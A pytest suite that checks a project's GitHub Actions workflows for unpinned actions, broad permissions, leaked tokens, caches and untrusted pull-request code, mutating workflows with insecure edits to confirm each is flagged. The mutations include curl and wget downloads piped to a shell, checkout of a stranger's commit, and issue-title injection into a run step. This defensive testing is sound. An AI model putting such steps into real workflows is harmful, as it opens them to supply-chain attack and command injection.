"""Workflows pin what they use, give each job the least, and run nothing of a stranger's."""

from pathlib import Path
from typing import Any

import pytest
import yaml

from scripts import workflows

ROOT = Path(__file__).parents[1]
OWN = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
EXAMPLES = sorted((ROOT / "examples" / "workflows").glob("*.yml"))
PAGES = [
    path for path in (ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))) if "uses:" in path.read_text("utf-8")
]
OURS = frozenset({"hubpipe/hubpipe"})
RELEASE = (ROOT / ".github" / "workflows" / "release.yml").read_text("utf-8")
BOT = (ROOT / ".github" / "workflows" / "hubpipe.yml").read_text("utf-8")

attack = pytest.mark.threat("attack", "supply-chain")


@pytest.mark.parametrize("path", OWN, ids=lambda path: path.name)
def test_our_workflows_pin_every_action_and_give_each_job_the_least(path: Path) -> None:
    assert workflows.faults(path.read_text("utf-8")) == []


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_the_example_workflows_pin_every_action_but_our_own_release(path: Path) -> None:
    assert workflows.faults(path.read_text("utf-8"), OURS) == []


@pytest.mark.parametrize("path", PAGES, ids=lambda path: path.name)
def test_the_pages_show_every_action_but_our_own_release_by_its_commit(path: Path) -> None:
    text = path.read_text("utf-8").replace("@DIGEST", f"@sha256:{'0' * 64}")
    assert list(workflows.pins(text, OURS)) == []


CHECKOUT = "actions/checkout@df4cb1c069e1874edd31b4311f1884172cec0e10 # v6.0.3"
LATE = "          persist-credentials: false\n"


@attack
@pytest.mark.parametrize(
    ("text", "found", "put", "fault"),
    [
        (RELEASE, CHECKOUT, "actions/checkout@v6", "names no commit"),
        (RELEASE, CHECKOUT, "actions/checkout@main", "names no commit"),
        (RELEASE, CHECKOUT, "actions/checkout@df4cb1c # v6.0.3", "names no commit"),
        (RELEASE, CHECKOUT, '"actions/checkout@v6" # df4cb1c069e1874edd31b4311f1884172cec0e10', "names no commit"),
        (RELEASE, CHECKOUT, "docker://alpine:3", "names no commit"),
        (RELEASE, CHECKOUT, CHECKOUT.partition(" ")[0], "does not say which version"),
        (RELEASE, "permissions: {}\n", "permissions: write-all\n", "`permissions: {}` is missing"),
        (RELEASE, "permissions: {}\n", "", "`permissions: {}` is missing"),
        (
            RELEASE,
            "    permissions:\n      id-token: write #",
            "    permissions: write-all #",
            "job pypi names no perm",
        ),
        (RELEASE, LATE, "          persist-credentials: true\n", "leaves its token"),
        (RELEASE, LATE, "          fetch-depth: 1\n", "leaves its token"),
        (RELEASE, '"$IMAGE@$DIGEST"\n', '"$IMAGE@${{ steps.index.outputs.digest }}"\n', "a `run` of the job"),
        (RELEASE, "- run: make check", "- run: curl -L https://example.org/install | bash", "pipes a download"),
        (RELEASE, "- run: make check", "- run: wget -qO- https://example.org/i | sudo sh", "pipes a download"),
        (RELEASE, "          package-manager-cache: false\n", "          cache: npm\n", "uses a cache"),
        (RELEASE, CHECKOUT, "actions/cache@0057852bfaa89a56745cba8c7296529d2fc39830 # v4.3.0", "uses a cache"),
        (RELEASE, "    timeout-minutes: 90\n", "", "no `timeout-minutes`"),
        (RELEASE, "concurrency:\n  group: release\n  cancel-in-progress: false\n", "", "`concurrency` is missing"),
        (BOT, LATE, LATE + "          ref: ${{ github.event.pull_request.head.sha }}\n", "a stranger's commit"),
        (BOT, LATE, LATE + "          repository: ${{ github.head_ref }}\n", "a stranger's commit"),
        (BOT, "- uses: ./", "- run: gh pr checkout 1\n      - uses: ./", "a stranger's commit"),
        (BOT, "- uses: ./", "- run: git fetch origin pull/1/merge\n      - uses: ./", "a stranger's commit"),
        (BOT, "- uses: ./", "- run: echo ${{ github.event.issue.title }}\n      - uses: ./", "has ${{ github.event.is"),
    ],
)
def test_a_workflow_that_lets_somebody_in_is_refused(text: str, found: str, put: str, fault: str) -> None:
    changed = text.replace(found, put, 1)
    assert changed != text
    assert fault in "\n".join(workflows.faults(changed))


def test_every_trigger_is_read_however_it_is_written() -> None:
    for on in ("pull_request_target", "[push, pull_request_target]", "{pull_request_target: {types: [opened]}}"):
        steps = f"    steps:\n      - uses: {CHECKOUT}\n        with: {{persist-credentials: false, ref: x}}\n"
        head = (
            f"on: {on}\npermissions: {{}}\nconcurrency: x\njobs:\n  a:\n    permissions: {{}}\n    timeout-minutes: 1\n"
        )
        assert workflows.faults(head + steps) == [workflows.HEAD.format(job="a")]


def test_a_release_has_no_lasting_secret_and_each_job_one_power() -> None:
    assert "secrets." not in RELEASE
    jobs = yaml.safe_load(RELEASE)["jobs"]
    written = {
        name: {key for key, level in job["permissions"].items() if level == "write"} for name, job in jobs.items()
    }
    assert written == {
        "test": set(),
        "package": {"id-token", "attestations"},
        "image": {"packages"},
        "index": {"packages", "id-token", "attestations"},
        "pypi": {"id-token"},
        "release": {"contents"},
    }
    assert all("test" in _before(jobs, name) for name in jobs if name != "test")
    assert {
        job["environment"] if isinstance(job["environment"], str) else job["environment"]["name"]
        for job in jobs.values()
        if "environment" in job
    } == {"pypi", "release"}


def _before(jobs: dict[str, Any], name: str) -> set[str]:
    needed = jobs[name].get("needs", [])
    named = {needed} if isinstance(needed, str) else set(needed)
    return named.union(*(_before(jobs, one) for one in named))
